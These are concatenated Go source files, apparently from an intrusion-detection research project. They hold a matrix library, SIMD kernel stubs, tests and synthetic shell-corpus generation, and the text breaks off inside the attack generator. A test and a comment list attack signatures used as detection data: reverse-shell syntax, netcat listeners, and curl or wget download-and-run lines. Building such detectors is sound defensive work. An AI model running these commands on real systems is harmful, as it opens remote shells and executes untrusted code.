		panic(fmt.Sprintf("tensor: data length %d does not match %dx%d", len(data), rows, cols))
	}
	return &Matrix{Rows: rows, Cols: cols, Data: data}
}

// Clone returns a deep copy.
func (m *Matrix) Clone() *Matrix {
	out := NewMatrix(m.Rows, m.Cols)
	copy(out.Data, m.Data)
	return out
}

// At returns element (i, j).
func (m *Matrix) At(i, j int) float64 { return m.Data[i*m.Cols+j] }

// Set assigns element (i, j).
func (m *Matrix) Set(i, j int, v float64) { m.Data[i*m.Cols+j] = v }

// Row returns a mutable view of row i.
func (m *Matrix) Row(i int) []float64 { return m.Data[i*m.Cols : (i+1)*m.Cols] }

// SameShape reports whether m and o have identical dimensions.
func (m *Matrix) SameShape(o *Matrix) bool { return m.Rows == o.Rows && m.Cols == o.Cols }

// Zero sets every element to 0.
func (m *Matrix) Zero() {
	for i := range m.Data {
		m.Data[i] = 0
	}
}

// Fill sets every element to v.
func (m *Matrix) Fill(v float64) {
	for i := range m.Data {
		m.Data[i] = v
	}
}

// AddInPlace adds o elementwise into m.
func (m *Matrix) AddInPlace(o *Matrix) {
	if !m.SameShape(o) {
		panic(fmt.Sprintf("tensor: AddInPlace shape mismatch %dx%d vs %dx%d", m.Rows, m.Cols, o.Rows, o.Cols))
	}
	for i, v := range o.Data {
		m.Data[i] += v
	}
}

// ScaleInPlace multiplies every element by s.
func (m *Matrix) ScaleInPlace(s float64) {
	for i := range m.Data {
		m.Data[i] *= s
	}
}

// AxpyInPlace performs m += alpha * o.
func (m *Matrix) AxpyInPlace(alpha float64, o *Matrix) {
	if !m.SameShape(o) {
		panic(fmt.Sprintf("tensor: Axpy shape mismatch %dx%d vs %dx%d", m.Rows, m.Cols, o.Rows, o.Cols))
	}
	for i, v := range o.Data {
		m.Data[i] += alpha * v
	}
}

// Norm2 returns the Frobenius norm.
func (m *Matrix) Norm2() float64 {
	s := 0.0
	for _, v := range m.Data {
		s += v * v
	}
	return math.Sqrt(s)
}

// MatMulInto computes out = a·b, overwriting out. Shapes must agree.
// The kernel uses the i-k-j loop order with row slices, which keeps the
// inner loop sequential over both operands.
func MatMulInto(a, b, out *Matrix) {
	if a.Cols != b.Rows || out.Rows != a.Rows || out.Cols != b.Cols {
		panic(fmt.Sprintf("tensor: MatMul shapes %dx%d · %dx%d -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	out.Zero()
	parallelRows(a.Rows, func(lo, hi int) {
		for i := lo; i < hi; i++ {
			arow := a.Data[i*a.Cols : (i+1)*a.Cols]
			orow := out.Data[i*b.Cols : (i+1)*b.Cols]
			for k, av := range arow {
				if av == 0 {
					continue
				}
				brow := b.Data[k*b.Cols : (k+1)*b.Cols]
				for j, bv := range brow {
					orow[j] += av * bv
				}
			}
		}
	})
}

// MatMul computes a·b into a new matrix.
func MatMul(a, b *Matrix) *Matrix {
	out := NewMatrix(a.Rows, b.Cols)
	MatMulInto(a, b, out)
	return out
}

// MatMulATBInto computes out += aᵀ·b without materializing the transpose.
// Note the accumulation: callers use it for gradient updates.
func MatMulATBInto(a, b, out *Matrix) {
	if a.Rows != b.Rows || out.Rows != a.Cols || out.Cols != b.Cols {
		panic(fmt.Sprintf("tensor: MatMulATB shapes %dx%d ᵀ· %dx%d -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	for i := 0; i < a.Rows; i++ {
		arow := a.Data[i*a.Cols : (i+1)*a.Cols]
		brow := b.Data[i*b.Cols : (i+1)*b.Cols]
		for k, av := range arow {
			if av == 0 {
				continue
			}
			orow := out.Data[k*b.Cols : (k+1)*b.Cols]
			for j, bv := range brow {
				orow[j] += av * bv
			}
		}
	}
}

// MatMulABTInto computes out += a·bᵀ without materializing the transpose.
func MatMulABTInto(a, b, out *Matrix) {
	if a.Cols != b.Cols || out.Rows != a.Rows || out.Cols != b.Rows {
		panic(fmt.Sprintf("tensor: MatMulABT shapes %dx%d · %dx%d ᵀ -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	parallelRows(a.Rows, func(lo, hi int) {
		for i := lo; i < hi; i++ {
			arow := a.Data[i*a.Cols : (i+1)*a.Cols]
			orow := out.Data[i*b.Rows : (i+1)*b.Rows]
			for j := 0; j < b.Rows; j++ {
				brow := b.Data[j*b.Cols : (j+1)*b.Cols]
				s := 0.0
				for k, av := range arow {
					s += av * brow[k]
				}
				orow[j] += s
			}
		}
	})
}

// TransposeOf returns aᵀ as a new matrix.
func TransposeOf(a *Matrix) *Matrix {
	out := NewMatrix(a.Cols, a.Rows)
	for i := 0; i < a.Rows; i++ {
		arow := a.Data[i*a.Cols : (i+1)*a.Cols]
		for j, v := range arow {
			out.Data[j*a.Rows+i] = v
		}
	}
	return out
}

// parallelRows splits [0, n) across GOMAXPROCS workers when the work is
// large enough to amortize goroutine startup; otherwise it runs inline.
func parallelRows(n int, fn func(lo, hi int)) {
	workers := runtime.GOMAXPROCS(0)
	if workers <= 1 || n < 64 {
		fn(0, n)
		return
	}
	if workers > n {
		workers = n
	}
	chunk := (n + workers - 1) / workers
	var wg sync.WaitGroup
	for lo := 0; lo < n; lo += chunk {
		hi := lo + chunk
		if hi > n {
			hi = n
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			fn(lo, hi)
		}(lo, hi)
	}
	wg.Wait()
}
