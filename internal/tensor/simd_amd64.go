package tensor

// SIMD backends for the low-precision serve path. The float64 kernels stay
// pure Go — they are the bitwise-golden reference — but the float32 and
// int8 rungs exist to trade exactness for speed, so on amd64 they dispatch
// to AVX2/FMA (and, for the int8 accumulation, AVX-512 VNNI when present)
// assembly after a runtime CPUID check; pure-Go fallbacks cover older
// hosts and other architectures. The assembly computes the same sums in a
// different association order, which is within the low rungs' documented
// tolerance; within one process the kernels are deterministic, so dedup,
// LRU hits, and repeated scoring stay exactly reproducible.

// haveSIMD gates the AVX2 kernels: AVX2 + FMA + OS-enabled YMM state.
// haveVNNI additionally gates the AVX-512 VNNI int8 kernel.
var (
	haveSIMD = x86HasAVX2FMA()
	haveVNNI = haveSIMD && x86HasAVX512VNNI()
)

// x86HasAVX2FMA reports CPUID support for AVX2 and FMA with OS-saved YMM
// registers (implemented in simd_amd64.s).
func x86HasAVX2FMA() bool

// x86HasAVX512VNNI reports CPUID support for AVX-512 F/BW/VNNI with
// OS-saved ZMM and opmask state (implemented in simd_amd64.s).
func x86HasAVX512VNNI() bool

// f32MatVecAsm accumulates out[j] += Σ_k a[k]·b[k·N+j] for N = len(out),
// K = len(a) — one row of a panel GEMM, vectorized 32/16/8/4-wide over j
// with FMA. b must hold at least K·N elements.
//
//go:noescape
func f32MatVecAsm(a, b, out []float32)

// int8MatVecAVX2 computes acc[j] = Σ_k qa[k]·wt(k,j) over the blocked
// channel-pair layout with VPMADDWD/VPADDD. len(qa) = KPad (multiple of
// 32), len(acc) = NPad (multiple of 16), len(wt) = KPad·NPad.
//
//go:noescape
func int8MatVecAVX2(qa []int16, wt []int8, acc []int32)

// int8MatVecVNNI is the same contract fused onto AVX-512 VPDPWSSD:
// 16-channel blocks accumulate in one ZMM with no widening shuffles.
//
//go:noescape
func int8MatVecVNNI(qa []int16, wt []int8, acc []int32)

// expShiftAsm applies v[i] = exp(v[i] - shift) in place, 8 lanes at a
// time, with the same range reduction and degree-7 polynomial as
// fastExp32 (round-to-nearest k instead of round-half-away; inputs are
// clamped to [-87, 88] so the vector path saturates instead of returning
// ±Inf/0). len(v) must be a multiple of 8; callers handle the tail.
//
//go:noescape
func expShiftAsm(v []float32, shift float32)

// gelu32Asm applies the tanh-approximated GELU in place, 8 lanes at a
// time, tanh computed as 1 − 2/(e^{2u}+1) on the vector exp above.
// len(v) must be a multiple of 8; callers handle the tail.
//
//go:noescape
func gelu32Asm(v []float32)

// maxAbs32Asm returns max|v[i]| over len(v) (multiple of 8, nonzero).
//
//go:noescape
func maxAbs32Asm(v []float32) float32

// quantRow32Asm writes qa[i] = int16(round(x[i]·inv)) for len(x) elements
// (multiple of 8); rounding is nearest-even.
//
//go:noescape
func quantRow32Asm(x []float32, inv float32, qa []int16)

// dequantRow32Asm writes out[j] = float32(acc[j])·rowScale·scales[j] +
// bias[j] for len(out) elements (multiple of 8).
//
//go:noescape
func dequantRow32Asm(acc []int32, scales []float32, rowScale float32, bias, out []float32)

// maxAbs32 returns max|v[i]|.
func maxAbs32(v []float32) float32 {
	n8 := 0
	m := float32(0)
	if haveSIMD && len(v) >= 8 {
		n8 = len(v) &^ 7
		m = maxAbs32Asm(v[:n8])
	}
	return maxAbs32Tail(v[n8:], m)
}

// quantRow32 fills qa[:len(x)] with the symmetric int8-range quantization
// of x at scale 1/inv.
func quantRow32(x []float32, inv float32, qa []int16) {
	n8 := 0
	if haveSIMD && len(x) >= 8 {
		n8 = len(x) &^ 7
		quantRow32Asm(x[:n8], inv, qa)
	}
	quantRow32Tail(x[n8:], inv, qa[n8:])
}

// dequantRow32 writes out[j] = acc[j]·rowScale·scales[j] (+ bias[j] when
// bias is non-nil).
func dequantRow32(acc []int32, scales []float32, rowScale float32, bias, out []float32) {
	if bias == nil || !haveSIMD || len(out) < 8 {
		dequantRow32Tail(acc, scales, rowScale, bias, out)
		return
	}
	n8 := len(out) &^ 7
	dequantRow32Asm(acc, scales, rowScale, bias, out[:n8])
	dequantRow32Tail(acc[n8:], scales[n8:], rowScale, bias[n8:], out[n8:])
}

// f32MatVec dispatches one GEMM row to the FMA kernel or the fallback.
func f32MatVec(a, b, out []float32) {
	if haveSIMD {
		f32MatVecAsm(a, b, out)
		return
	}
	f32MatVecGo(a, b, out)
}

// int8MatVec dispatches one quantized matvec to the best available kernel.
func int8MatVec(qa []int16, wt []int8, acc []int32) {
	if haveVNNI {
		int8MatVecVNNI(qa, wt, acc)
		return
	}
	if haveSIMD {
		int8MatVecAVX2(qa, wt, acc)
		return
	}
	int8MatVecGo(qa, wt, acc)
}

// expShiftInPlace applies v[i] = exp(v[i]-shift) in place.
func expShiftInPlace(v []float32, shift float32) {
	if haveSIMD {
		n8 := len(v) &^ 7
		expShiftAsm(v[:n8], shift)
		expShiftGo(v[n8:], shift)
		return
	}
	expShiftGo(v, shift)
}

// geluInPlace applies GELU elementwise in place.
func geluInPlace(v []float32) {
	if haveSIMD {
		n8 := len(v) &^ 7
		gelu32Asm(v[:n8])
		geluGo(v[n8:])
		return
	}
	geluGo(v)
}
