package tensor

import (
	"math"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

func randMatrix(r *rand.Rand, rows, cols int) *Matrix {
	m := NewMatrix(rows, cols)
	for i := range m.Data {
		m.Data[i] = r.NormFloat64()
	}
	return m
}

func TestMatMulSmall(t *testing.T) {
	a := FromSlice(2, 3, []float64{1, 2, 3, 4, 5, 6})
	b := FromSlice(3, 2, []float64{7, 8, 9, 10, 11, 12})
	got := MatMul(a, b)
	want := []float64{58, 64, 139, 154}
	if !reflect.DeepEqual(got.Data, want) {
		t.Fatalf("MatMul = %v, want %v", got.Data, want)
	}
}

func TestMatMulShapePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic on shape mismatch")
		}
	}()
	MatMul(NewMatrix(2, 3), NewMatrix(2, 3))
}

func naiveMatMul(a, b *Matrix) *Matrix {
	out := NewMatrix(a.Rows, b.Cols)
	for i := 0; i < a.Rows; i++ {
		for j := 0; j < b.Cols; j++ {
			s := 0.0
			for k := 0; k < a.Cols; k++ {
				s += a.At(i, k) * b.At(k, j)
			}
			out.Set(i, j, s)
		}
	}
	return out
}

func matricesClose(a, b *Matrix, tol float64) bool {
	if !a.SameShape(b) {
		return false
	}
	for i := range a.Data {
		if math.Abs(a.Data[i]-b.Data[i]) > tol {
			return false
		}
	}
	return true
}

func TestQuickMatMulAgainstNaive(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 50,
		Values: func(values []reflect.Value, r *rand.Rand) {
			m, k, n := 1+r.Intn(12), 1+r.Intn(12), 1+r.Intn(12)
			values[0] = reflect.ValueOf(randMatrix(r, m, k))
			values[1] = reflect.ValueOf(randMatrix(r, k, n))
		},
	}
	prop := func(a, b *Matrix) bool {
		return matricesClose(MatMul(a, b), naiveMatMul(a, b), 1e-10)
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestMatMulATB(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	a := randMatrix(r, 5, 3)
	b := randMatrix(r, 5, 4)
	out := NewMatrix(3, 4)
	MatMulATBInto(a, b, out)
	want := naiveMatMul(TransposeOf(a), b)
	if !matricesClose(out, want, 1e-12) {
		t.Fatalf("ATB mismatch")
	}
	// Accumulation semantics: calling again doubles the result.
	MatMulATBInto(a, b, out)
	want.ScaleInPlace(2)
	if !matricesClose(out, want, 1e-12) {
		t.Fatalf("ATB should accumulate")
	}
}

func TestMatMulABT(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	a := randMatrix(r, 5, 3)
	b := randMatrix(r, 4, 3)
	out := NewMatrix(5, 4)
	MatMulABTInto(a, b, out)
	want := naiveMatMul(a, TransposeOf(b))
	if !matricesClose(out, want, 1e-12) {
		t.Fatalf("ABT mismatch")
	}
}

func TestTransposeOf(t *testing.T) {
	a := FromSlice(2, 3, []float64{1, 2, 3, 4, 5, 6})
	got := TransposeOf(a)
	want := FromSlice(3, 2, []float64{1, 4, 2, 5, 3, 6})
	if !reflect.DeepEqual(got.Data, want.Data) || got.Rows != 3 || got.Cols != 2 {
		t.Fatalf("TransposeOf = %+v", got)
	}
}

func TestMatrixHelpers(t *testing.T) {
	m := FromSlice(2, 2, []float64{3, 4, 0, 0})
	if got := m.Norm2(); math.Abs(got-5) > 1e-12 {
		t.Errorf("Norm2 = %v, want 5", got)
	}
	c := m.Clone()
	c.Set(0, 0, 99)
	if m.At(0, 0) == 99 {
		t.Error("Clone aliases data")
	}
	m.Fill(2)
	m.AxpyInPlace(3, FromSlice(2, 2, []float64{1, 1, 1, 1}))
	for _, v := range m.Data {
		if v != 5 {
			t.Fatalf("Axpy result = %v, want all 5", m.Data)
		}
	}
	m.Zero()
	if m.Norm2() != 0 {
		t.Error("Zero did not clear")
	}
}

func BenchmarkMatMul128(b *testing.B) {
	r := rand.New(rand.NewSource(3))
	x := randMatrix(r, 128, 128)
	y := randMatrix(r, 128, 128)
	out := NewMatrix(128, 128)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		MatMulInto(x, y, out)
	}
}
