package tensor

import (
	"fmt"
	"math"
)

// Matrix32 is a dense row-major matrix of float32 — the activation type of
// the low-precision serve path. The pure-Go GEMM is bound by memory
// bandwidth, not arithmetic, so halving the element width roughly halves
// the cost of streaming a weight panel through cache. float64 remains the
// canonical training/golden representation; Matrix32 exists only on the
// forward-only inference path.
type Matrix32 struct {
	Rows, Cols int
	Data       []float32
}

// NewMatrix32 allocates a zeroed rows×cols float32 matrix.
func NewMatrix32(rows, cols int) *Matrix32 {
	if rows < 0 || cols < 0 {
		panic(fmt.Sprintf("tensor: negative dimensions %dx%d", rows, cols))
	}
	return &Matrix32{Rows: rows, Cols: cols, Data: make([]float32, rows*cols)}
}

// Narrow converts a float64 matrix to float32, rounding each element once.
func Narrow(m *Matrix) *Matrix32 {
	out := NewMatrix32(m.Rows, m.Cols)
	for i, v := range m.Data {
		out.Data[i] = float32(v)
	}
	return out
}

// Widen converts back to float64 (exact: every float32 is a float64).
func (m *Matrix32) Widen() *Matrix {
	out := NewMatrix(m.Rows, m.Cols)
	for i, v := range m.Data {
		out.Data[i] = float64(v)
	}
	return out
}

// Row returns a mutable view of row i.
func (m *Matrix32) Row(i int) []float32 { return m.Data[i*m.Cols : (i+1)*m.Cols] }

// SameShape reports whether m and o have identical dimensions.
func (m *Matrix32) SameShape(o *Matrix32) bool { return m.Rows == o.Rows && m.Cols == o.Cols }

// Zero sets every element to 0.
func (m *Matrix32) Zero() {
	for i := range m.Data {
		m.Data[i] = 0
	}
}

// AddInPlace adds o elementwise into m.
func (m *Matrix32) AddInPlace(o *Matrix32) {
	if !m.SameShape(o) {
		panic(fmt.Sprintf("tensor: AddInPlace shape mismatch %dx%d vs %dx%d", m.Rows, m.Cols, o.Rows, o.Cols))
	}
	for i, v := range o.Data {
		m.Data[i] += v
	}
}

// panelRows32 sizes a cache panel for float32 rows: twice as many rows of
// the same width fit in the 256 KiB budget as for float64.
func panelRows32(cols int) int {
	if cols <= 0 {
		return 128
	}
	r := (256 << 10) / (4 * cols)
	if r < 16 {
		return 16
	}
	if r > 512 {
		return 512
	}
	return r
}

// matMulRows32 computes out rows [lo,hi) of a·b in float32: cache-blocked
// over k so a panel of b stays resident across the rows of a, each
// (row, panel) pair handled by the f32MatVec kernel (FMA assembly on
// capable amd64 hosts, register-blocked pure Go elsewhere). out rows must
// be pre-zeroed.
func matMulRows32(a, b, out *Matrix32, lo, hi int) {
	bk := panelRows32(b.Cols)
	n := b.Cols
	for k0 := 0; k0 < b.Rows; k0 += bk {
		k1 := k0 + bk
		if k1 > b.Rows {
			k1 = b.Rows
		}
		panel := b.Data[k0*n : k1*n]
		for i := lo; i < hi; i++ {
			f32MatVec(a.Data[i*a.Cols+k0:i*a.Cols+k1], panel, out.Data[i*n:(i+1)*n])
		}
	}
}

// fastExp32 approximates e^x in float32: range-reduce x = k·ln2 + r with
// |r| ≤ ln2/2, evaluate e^r by a degree-7 Taylor/Horner polynomial, and
// scale by 2^k through the float32 exponent bits. Maximum relative error is
// ~3e-7 over the softmax/GELU range — two orders of magnitude below the
// float32 rounding noise the low-precision path already accepts — at a
// fraction of math.Exp's cost (no float64 round trip, no table lookup).
// Inputs below -87 flush to 0 and above +88 saturate to +Inf, matching
// float32 exp limits.
func fastExp32(x float32) float32 {
	if x > 88 {
		return float32(math.Inf(1))
	}
	if x < -87 {
		return 0
	}
	// k = round(x/ln2). The ln2 split is the classic Cephes float32 pair:
	// c1 has only 10 significand bits, so k·c1 is exact for |k| ≤ 2^13 and
	// the reduction loses no precision even at the range edges.
	const invLn2 = 1.4426950408889634
	const c1 = 0.693359375
	const c2 = -2.12194440e-4
	kf := x*invLn2 + 0.5
	if x < 0 {
		kf = x*invLn2 - 0.5
	}
	k := int32(kf)
	r := x - float32(k)*c1
	r -= float32(k) * c2
	// e^r, |r| ≤ 0.3466: degree-7 Taylor polynomial in Horner form
	// (truncation ≤ r^8/8! ≈ 5e-9 relative at the interval edge).
	p := float32(1.0 / 5040)
	p = p*r + 1.0/720
	p = p*r + 1.0/120
	p = p*r + 1.0/24
	p = p*r + 1.0/6
	p = p*r + 0.5
	p = p*r + 1
	p = p*r + 1
	return p * math.Float32frombits(uint32(127+k)<<23)
}

// fastTanh32 computes tanh via fastExp32: tanh(x) = 1 − 2/(e^{2x}+1), odd
// symmetry applied so the exponential argument is always ≥ 0 (no
// cancellation). |x| ≥ 9.02 saturates to ±1 exactly as float32 tanh does.
func fastTanh32(x float32) float32 {
	neg := x < 0
	if neg {
		x = -x
	}
	var t float32
	if x >= 9.02 {
		t = 1
	} else {
		t = 1 - 2/(fastExp32(2*x)+1)
	}
	if neg {
		return -t
	}
	return t
}

// softmaxInto32 writes softmax(src) into dst (may alias src) using the
// numerically stable max-shift; the exponentials run through the
// vectorized exp kernel where available.
func softmaxInto32(dst, src []float32) {
	max := src[0]
	for _, v := range src[1:] {
		if v > max {
			max = v
		}
	}
	copy(dst, src)
	expShiftInPlace(dst, max)
	sum := float32(0)
	for _, e := range dst {
		sum += e
	}
	inv := 1 / sum
	for i := range dst {
		dst[i] *= inv
	}
}
