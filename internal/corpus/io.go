package corpus

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
)

// jsonSample is the JSONL wire form of a Sample.
type jsonSample struct {
	Line    string `json:"line"`
	User    string `json:"user"`
	Time    int64  `json:"time"`
	Label   string `json:"label"`
	Family  string `json:"family"`
	InBox   bool   `json:"in_box,omitempty"`
	ChainID int    `json:"chain_id,omitempty"`
}

// WriteJSONL writes the dataset as one JSON object per line.
func (d *Dataset) WriteJSONL(w io.Writer) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for i, s := range d.Samples {
		js := jsonSample{
			Line: s.Line, User: s.User, Time: s.Time,
			Label: s.Label.String(), Family: s.Family,
			InBox: s.InBox, ChainID: s.ChainID,
		}
		if err := enc.Encode(&js); err != nil {
			return fmt.Errorf("corpus: encoding sample %d: %w", i, err)
		}
	}
	return bw.Flush()
}

// ReadJSONL reads a dataset written by WriteJSONL.
func ReadJSONL(r io.Reader) (*Dataset, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	d := &Dataset{}
	lineNo := 0
	for sc.Scan() {
		lineNo++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var js jsonSample
		if err := json.Unmarshal(raw, &js); err != nil {
			return nil, fmt.Errorf("corpus: line %d: %w", lineNo, err)
		}
		var label Label
		switch js.Label {
		case "benign":
			label = Benign
		case "intrusion":
			label = Intrusion
		default:
			return nil, fmt.Errorf("corpus: line %d: unknown label %q", lineNo, js.Label)
		}
		d.Samples = append(d.Samples, Sample{
			Line: js.Line, User: js.User, Time: js.Time,
			Label: label, Family: js.Family, InBox: js.InBox, ChainID: js.ChainID,
		})
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("corpus: reading JSONL: %w", err)
	}
	return d, nil
}
