package corpus

import "clmids/internal/modality"

// The shell generator moved to internal/modality when modalities became
// pluggable; these forwarders keep the original corpus-level API for the
// experiment harness and the public facade.

// BenignCommandNames lists the command names the benign shell generator can
// emit; the pre-processing frequency filter should learn approximately this
// set.
func BenignCommandNames() []string { return modality.ShellBenignCommandNames() }

// AttackFamilies returns the distinct shell attack family names, for
// reporting.
func AttackFamilies() []string { return modality.ShellAttackFamilies() }

// TableIIIPairs returns the paper's Table III (in-box, out-of-box) example
// pairs. Used by the qualitative analyses (§V-C) and the generalization
// experiment (E6).
func TableIIIPairs() [][2]string { return modality.TableIIIPairs() }
