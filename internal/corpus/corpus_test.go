package corpus

import (
	"strings"
	"testing"

	"clmids/internal/shell"
)

func smallConfig() Config {
	cfg := DefaultConfig()
	cfg.TrainLines = 1500
	cfg.TestLines = 800
	return cfg
}

func TestGenerateSizes(t *testing.T) {
	train, test, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(train.Samples) < 1500 || len(train.Samples) > 1600 {
		t.Errorf("train size %d outside expected band", len(train.Samples))
	}
	if len(test.Samples) < 800 || len(test.Samples) > 900 {
		t.Errorf("test size %d outside expected band", len(test.Samples))
	}
}

func TestGenerateDeterministic(t *testing.T) {
	t1, _, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	t2, _, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(t1.Samples) != len(t2.Samples) {
		t.Fatalf("sizes differ: %d vs %d", len(t1.Samples), len(t2.Samples))
	}
	for i := range t1.Samples {
		if t1.Samples[i] != t2.Samples[i] {
			t.Fatalf("sample %d differs:\n%+v\n%+v", i, t1.Samples[i], t2.Samples[i])
		}
	}
}

func TestConfigValidation(t *testing.T) {
	bad := []func(*Config){
		func(c *Config) { c.TrainLines = 0 },
		func(c *Config) { c.TestLines = -1 },
		func(c *Config) { c.Users = 0 },
		func(c *Config) { c.IntrusionRate = 1.5 },
		func(c *Config) { c.OutOfBoxFrac = -0.1 },
	}
	for i, mutate := range bad {
		cfg := DefaultConfig()
		mutate(&cfg)
		if _, _, err := Generate(cfg); err == nil {
			t.Errorf("case %d: invalid config accepted", i)
		}
	}
}

func TestLabelDistribution(t *testing.T) {
	train, test, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	for name, d := range map[string]*Dataset{"train": train, "test": test} {
		intr := d.CountLabel(Intrusion)
		if intr == 0 {
			t.Errorf("%s: no intrusions generated", name)
		}
		frac := float64(intr) / float64(len(d.Samples))
		if frac > 0.15 {
			t.Errorf("%s: intrusions are %0.1f%%, should be rare", name, 100*frac)
		}
		if d.CountLabel(Benign)+intr != len(d.Samples) {
			t.Errorf("%s: labels do not partition the dataset", name)
		}
	}
	// The test split must contain out-of-box intrusions (the PO metric's
	// denominator) and the train split should contain mostly in-box ones.
	if test.CountOutOfBox() == 0 {
		t.Error("test split has no out-of-box intrusions")
	}
	trainIntr := train.CountLabel(Intrusion)
	if trainIntr > 0 {
		oobFrac := float64(train.CountOutOfBox()) / float64(trainIntr)
		if oobFrac > 0.5 {
			t.Errorf("train split out-of-box fraction %.2f too high", oobFrac)
		}
	}
}

func TestGarbageLinesAreInvalidAndOthersParse(t *testing.T) {
	train, _, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	garbage, valid := 0, 0
	for _, s := range train.Samples {
		if s.Family == "garbage" {
			garbage++
			if shell.Valid(s.Line) {
				t.Errorf("garbage line parses: %q", s.Line)
			}
			continue
		}
		valid++
		if !shell.Valid(s.Line) {
			t.Errorf("non-garbage line does not parse: %q (family %s)", s.Line, s.Family)
		}
	}
	if garbage == 0 {
		t.Error("no garbage lines generated")
	}
	if valid == 0 {
		t.Error("no valid lines generated")
	}
}

func TestTypoLinesUseLowFrequencyNames(t *testing.T) {
	train, _, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	// Typo command names must never collide with the legitimate set.
	legit := make(map[string]bool)
	for _, n := range BenignCommandNames() {
		legit[n] = true
	}
	sawTypo := false
	for _, s := range train.Samples {
		if s.Family != "typo" {
			continue
		}
		sawTypo = true
		ast, err := shell.Parse(s.Line)
		if err != nil {
			t.Fatalf("typo line must still parse: %q: %v", s.Line, err)
		}
		name := ast.FirstCommand()
		if legit[name] {
			t.Errorf("typo line %q uses legitimate command %q", s.Line, name)
		}
	}
	if !sawTypo {
		t.Error("no typo lines generated")
	}
}

func TestChainAttacksShareChainID(t *testing.T) {
	cfg := smallConfig()
	cfg.TrainLines = 6000 // enough sessions to hit the chain variant
	cfg.IntrusionRate = 0.1
	cfg.OutOfBoxFrac = 0.9
	train, _, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	chains := make(map[int][]Sample)
	for _, s := range train.Samples {
		if s.ChainID != 0 {
			chains[s.ChainID] = append(chains[s.ChainID], s)
		}
	}
	if len(chains) == 0 {
		t.Fatal("no chain attacks generated")
	}
	for id, lines := range chains {
		if len(lines) < 2 {
			t.Errorf("chain %d has %d lines, want >= 2", id, len(lines))
		}
		for _, s := range lines {
			if s.User != lines[0].User {
				t.Errorf("chain %d spans users", id)
			}
			if s.Label != Intrusion {
				t.Errorf("chain %d contains non-intrusion line", id)
			}
		}
	}
}

func TestSamplesAreTimestampOrdered(t *testing.T) {
	train, test, err := Generate(smallConfig())
	if err != nil {
		t.Fatal(err)
	}
	for name, d := range map[string]*Dataset{"train": train, "test": test} {
		for i := 1; i < len(d.Samples); i++ {
			if d.Samples[i].Time < d.Samples[i-1].Time {
				t.Fatalf("%s: timestamps out of order at %d", name, i)
			}
		}
	}
}

func TestTableIIIPairs(t *testing.T) {
	pairs := TableIIIPairs()
	if len(pairs) != 6 {
		t.Fatalf("TableIII pairs = %d, want 6", len(pairs))
	}
	for i, p := range pairs {
		if p[0] == "" || p[1] == "" {
			t.Errorf("pair %d incomplete: %q / %q", i, p[0], p[1])
		}
	}
	// Spot-check the signature patterns from the paper.
	joined := ""
	for _, p := range pairs {
		joined += p[0] + "\n" + p[1] + "\n"
	}
	for _, want := range []string{"nc -lvnp", "nc -ulp", "masscan", "/root/masscan.sh",
		"bash -i >&", "https_proxy", "socks5", "base64", "python3", "-o python"} {
		if !strings.Contains(joined, want) {
			t.Errorf("TableIII output missing %q", want)
		}
	}
}

func TestDatasetHelpers(t *testing.T) {
	d := &Dataset{Samples: []Sample{
		{Line: "a", Label: Benign},
		{Line: "b", Label: Intrusion, InBox: true},
		{Line: "c", Label: Intrusion, InBox: false},
	}}
	if got := d.Lines(); len(got) != 3 || got[2] != "c" {
		t.Errorf("Lines = %v", got)
	}
	if d.CountLabel(Intrusion) != 2 || d.CountLabel(Benign) != 1 {
		t.Error("CountLabel wrong")
	}
	if d.CountOutOfBox() != 1 {
		t.Error("CountOutOfBox wrong")
	}
	if Benign.String() != "benign" || Intrusion.String() != "intrusion" {
		t.Error("Label.String wrong")
	}
}

func BenchmarkGenerate(b *testing.B) {
	cfg := smallConfig()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := Generate(cfg); err != nil {
			b.Fatal(err)
		}
	}
}
