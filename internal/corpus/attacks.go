package corpus

import (
	"encoding/base64"
	"fmt"
	"math/rand"
)

// attackVariant is one concrete intrusion generator. In-box variants match
// the simulated commercial IDS rules; out-of-box variants are the paper's
// Table III blind spots and must be caught by the learned methods.
type attackVariant struct {
	family string
	inBox  bool
	gen    func(r *rand.Rand, nm *naming) []string
}

// fakeB64 produces a base64 blob standing in for an encoded payload.
func fakeB64(r *rand.Rand) string {
	raw := make([]byte, 12+r.Intn(24))
	for i := range raw {
		raw[i] = byte(r.Intn(256))
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// attackVariants enumerates all families. Table III correspondence:
//
//	nc -lvnp *                         | nc -ulp *
//	masscan * -p 0-65535 --rate=1000   | sh /root/masscan.sh * -p 0-65535
//	bash -i >& * 0>&1                  | java -cp tmp.jar "bash=bash -i >& *"
//	export https_proxy="http:*"        | export https_proxy="socks5:*"
//	java -jar tmp.jar -C "bash -c ..." | python3 tmp.py -p "bash -c ..."
//	curl http://*/x.sh | bash          | wget -c http://* -o python ; python
var attackVariants = []attackVariant{
	// --- Family: nc listeners / connect-back shells ---
